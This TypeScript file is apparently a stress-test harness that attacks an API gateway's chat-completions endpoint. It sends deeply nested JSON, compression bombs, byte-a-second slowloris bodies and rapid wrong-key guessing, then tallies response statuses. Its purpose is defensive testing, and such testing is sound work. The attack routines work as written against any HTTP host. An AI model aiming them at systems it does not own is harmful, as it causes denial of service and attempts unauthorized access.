import { connect, type Socket } from "node:net";
import { brotliCompressSync, constants, deflateSync, gzipSync } from "node:zlib";

/**
 * Hostile clients of a gateway, run as a separate process so that they take no time of the client that is measured.
 *
 * Arguments: the kind of attack, the gateway's address, a right API key. Attacks from the line "go" to the line "rest" on its standard input,
 * over and over; when that is closed it prints how many answers of each status came, as JSON, and ends.
 */
const [kind = "", url = "", key = ""] = process.argv.slice(2);
const { port, hostname } = new URL(url);
const counts: Record<string, number> = {};
/** Connections of the attack under way; none while it rests. */
const open = new Set<Socket>();
let isAttacking = false;

/** What one connection sends, over and over. */
interface Salvo {
  readonly head: string;
  readonly body: Buffer;
}

const headOf = (extra: string): string =>
  `POST /v1/chat/completions HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncontent-type: application/json\r\n${extra}`;
const authorized = `authorization: Bearer ${key}\r\n`;

function salvoOf(body: Buffer, extra = ""): Salvo {
  return { head: headOf(`${authorized}${extra}content-length: ${body.length}\r\n\r\n`), body };
}

/** Lists inside one another, in a message. */
function deep(bytes: number): Salvo {
  const [start, end] = ['{"model":"large","messages":[{"role":"user","content":', "}]}"];
  const each = (bytes - start.length - end.length) >> 1;
  return salvoOf(Buffer.concat([Buffer.from(start), Buffer.alloc(each, "["), Buffer.alloc(each, "]"), Buffer.from(end)]));
}

/** A text of 200 MB, compressed. */
function bomb(encoding: string, compress: (bytes: Buffer) => Buffer): Salvo {
  const text = `{"model":"large","messages":[{"role":"user","content":"${"a".repeat(200_000_000)}"}]}`;
  return salvoOf(compress(Buffer.from(text)), `content-encoding: ${encoding}\r\n`);
}

const count = (what: string): void => {
  counts[what] = (counts[what] ?? 0) + 1;
};

function opened(onEnd: () => void): Socket {
  const socket = connect(Number(port), hostname);
  open.add(socket);
  socket.on("error", () => undefined);
  socket.once("close", () => {
    open.delete(socket);
    onEnd();
  });
  socket.on("data", (chunk: Buffer) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString("latin1", 0, 16))?.[1];
    if (status !== undefined) count(status);
  });
  return socket;
}

const pieceBytes = 1024 * 1024;

/** Sends the salvo on connection after connection, without a look at the answers until all is sent. */
async function batter({ head, body }: Salvo): Promise<void> {
  while (isAttacking) {
    await new Promise<void>((resolve) => {
      const socket = opened(resolve);
      socket.once("data", () => setTimeout(() => socket.destroy(), 1000));
      socket.setTimeout(5000, () => socket.destroy());
      socket.write(head);
      let sent = 0;
      const send = (): void => {
        while (sent < body.length && !socket.destroyed) {
          const piece = body.subarray(sent, sent + pieceBytes);
          sent += piece.length;
          if (!socket.write(piece)) return void socket.once("drain", send);
        }
        // The answer to a whole body ends the turn at once.
        if (socket.bytesRead > 0) socket.destroy();
        else socket.once("data", () => socket.destroy());
      };
      send();
    });
    count("sent");
  }
}

/** Holds a connection whose body comes a byte a second. */
async function trickle(): Promise<void> {
  while (isAttacking) {
    await new Promise<void>((resolve) => {
      const socket = opened(() => {
        clearInterval(timer);
        resolve();
      });
      socket.write(headOf(`${authorized}content-length: 1000000\r\n\r\n`));
      const timer = setInterval(() => socket.write("a"), 1000);
    });
  }
}

/** Sends requests with wrong keys, the next as soon as one is answered. */
async function guess(connection: number): Promise<void> {
  const body = '{"model":"large","messages":[{"role":"user","content":"?"}]}';
  for (let attempt = 0; isAttacking; ) {
    await new Promise<void>((resolve) => {
      const socket = opened(resolve);
      const send = (): void => {
        attempt += 1;
        socket.write(`${headOf(`authorization: Bearer guess-${connection}-${attempt}\r\ncontent-length: ${body.length}\r\n\r\n`)}${body}`);
      };
      socket.on("data", send);
      send();
    });
  }
}

const times = (many: number, attack: (at: number) => Promise<void>) => (): void => {
  for (let at = 0; at < many; at += 1) void attack(at);
};
const battering = (salvo: Salvo) => times(4, () => batter(salvo));

const attacks: Readonly<Record<string, () => () => void>> = {
  "deep 1 MB": () => battering(deep(1_000_000)),
  "deep 8 MB": () => battering(deep(8_000_000)),
  "deep 100 MB": () => battering(deep(100_000_000)),
  gzip: () => battering(bomb("gzip", (bytes) => gzipSync(bytes, { level: 9 }))),
  deflate: () => battering(bomb("deflate", (bytes) => deflateSync(bytes, { level: 9 }))),
  br: () => battering(bomb("br", (bytes) => brotliCompressSync(bytes, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } }))),
  "slow bodies": () => times(500, trickle),
  "wrong keys": () => times(64, guess),
};

const attack = attacks[kind]?.();
if (attack === undefined) throw new Error(`There is no attack ${kind}.`);
process.stdout.write("ready\n");
const rest = (): void => {
  isAttacking = false;
  for (const socket of open) socket.destroy();
};
process.stdin.on("data", (line) => {
  if (String(line).startsWith("rest")) return rest();
  isAttacking = true;
  attack();
});
process.stdin.on("end", () => {
  rest();
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit(0));
});
